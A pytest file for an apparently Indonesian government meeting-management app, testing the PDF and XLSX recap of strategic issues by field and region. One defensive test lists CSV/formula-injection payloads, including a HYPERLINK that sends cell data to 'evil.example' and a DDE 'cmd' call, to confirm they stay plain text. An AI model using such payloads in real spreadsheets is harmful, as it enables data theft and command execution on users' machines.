"""The recap for Biro Pemerintahan: PDF grouped by field then region, and the XLSX read back."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from rakortek.documents.catalog import SPECS
from rakortek.documents.rendering import RenderOptions
from rakortek.documents.spreadsheet import COLUMNS, HEADER_ROW
from tests.documents.conftest import decided_issue, flat, pdf_reader, pdf_text

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+62 811 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def recap_meeting(monday_meeting, decided_desk, desk_sda):
    decided_issue(
        desk_sda,
        "pangkalpinang",
        title="Pengendalian banjir DAS Rangkui",
        rank=1,
        decision="prioritas",
        cost=Decimal("42500000000"),
        funding_source="apbn",
        authority="pusat",
        volume=Decimal("4.2"),
        unit="km",
    )
    decided_issue(
        desk_sda,
        "bangka",
        title="Abrasi pantai Matras",
        rank=2,
        decision="cadangan",
        reason="Menunggu kajian BWS.",
    )
    return monday_meeting


def render(meeting, key="rekapitulasi"):
    return SPECS[key].render(meeting, None, RenderOptions.create())


def test_recap_pdf_groups_by_field_priorities_first_with_totals(recap_meeting):
    output = render(recap_meeting)
    text = flat(pdf_text(output.content))
    assert output.refused_urls == []
    assert "REKAPITULASI ISU STRATEGIS" in text.upper()
    for header in ["Kab/Kota", "Isu", "Lokasi", "Penanganan", "Biaya", "Sumber Dana", "Kewenangan"]:
        assert header in text
    bina_marga = text.index("Bidang Bina Marga")
    sda = text.index("Bidang Sumber Daya Air")
    assert bina_marga < sda
    # Within a field, Prioritas first, then Cadangan, Dialihkan and the undecided,
    # whatever the regions.
    assert (
        text.index("Rekonstruksi ruas Sungailiat", bina_marga)
        < text.index("Pelebaran Jalan Lingkar Timur", bina_marga)
        < text.index("Jembatan Sungai Cerucuk", bina_marga)
        < text.index("Drainase Jalan Mentok", bina_marga)
    )
    assert text.index("Pengendalian banjir", sda) < text.index("Abrasi pantai Matras", sda)
    assert "4,2 km" in text and "APBN" in text and "Pusat" in text
    assert "Rp42.500.000.000" in text
    # 38.000.000.000 + 1.250.000 + 1.250.000.000 * 2 in Bina Marga.
    assert "Jumlah Prioritas Bidang Bina Marga (1 isu) Rp38.000.000.000" in text
    assert "Jumlah Bidang Bina Marga (4 isu) Rp40.501.250.000" in text
    assert "Jumlah Prioritas seluruhnya (2 isu) Rp80.500.000.000" in text
    assert "Jumlah seluruhnya (6 isu) Rp84.251.250.000" in text
    assert "Bahan Rapat Koordinasi Gubernur (RAKORGUB) untuk Biro Pemerintahan" in text
    assert float(pdf_reader(output.content).pages[0].mediabox.width) > float(
        pdf_reader(output.content).pages[0].mediabox.height
    )


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_recap_xlsx_is_one_filterable_table_with_real_numbers(recap_meeting):
    output = render(recap_meeting, "rekapitulasi-xlsx")
    assert output.content_type.endswith("spreadsheetml.sheet")
    sheet = read_xlsx(output.content)
    headers = [sheet.cell(row=HEADER_ROW, column=c).value for c in range(1, len(COLUMNS) + 1)]
    assert headers[:14] == [
        "Bidang",
        "Nomor",
        "Kab/Kota",
        "Judul",
        "Lokasi",
        "Volume",
        "Satuan",
        "Biaya (Rp)",
        "Sumber Dana",
        "Kewenangan",
        "Skor",
        "Peringkat",
        "Keputusan",
        "Butir",
    ]
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    assert sheet.auto_filter.ref.startswith(f"A{HEADER_ROW}:")
    assert sheet.cell(row=HEADER_ROW, column=1).font.bold
    rows = {
        sheet.cell(row=r, column=4).value: r
        for r in range(HEADER_ROW + 1, sheet.max_row + 1)
        if sheet.cell(row=r, column=4).value
    }
    flood = rows["Pengendalian banjir DAS Rangkui"]
    assert sheet.cell(row=flood, column=1).value == "Sumber Daya Air"
    assert sheet.cell(row=flood, column=2).value == "SDA-01"
    cost = sheet.cell(row=flood, column=8)
    assert cost.value == 42500000000 and cost.data_type == "n"
    assert cost.number_format == '"Rp"#,##0'
    volume = sheet.cell(row=flood, column=6)
    assert volume.value == pytest.approx(4.2) and volume.data_type == "n"
    assert sheet.cell(row=flood, column=7).value == "km"
    assert sheet.cell(row=flood, column=13).value == "Prioritas"
    assert sheet.cell(row=flood, column=3).value == "Kota Pangkalpinang"
    # Every data row is an issue: no group or total rows among them.
    fields = {sheet.cell(row=r, column=1).value for r in range(HEADER_ROW + 1, sheet.max_row + 1)}
    assert fields == {"Bina Marga", "Sumber Daya Air"}
    assert "DRAF" in sheet["A3"].value


def test_recap_xlsx_text_that_looks_like_a_formula_stays_text(monday_meeting, desk_bina_marga):
    for text in HOSTILE:
        decided_issue(
            desk_bina_marga,
            "bangka",
            title=text,
            proposed_handling=text,
            place=text,
            decision="cadangan",
            reason=text,
        )
    sheet = read_xlsx(render(monday_meeting, "rekapitulasi-xlsx").content)
    found = []
    for row in sheet.iter_rows(min_row=HEADER_ROW + 1):
        for cell in row:
            if cell.value in HOSTILE:
                found.append(cell.value)
                assert cell.data_type == "s", cell.coordinate
                assert cell.quotePrefix, cell.coordinate
    assert sorted(set(found)) == sorted(HOSTILE)
    # No cell anywhere in the workbook is a formula.
    assert all(
        cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value is not None
    )
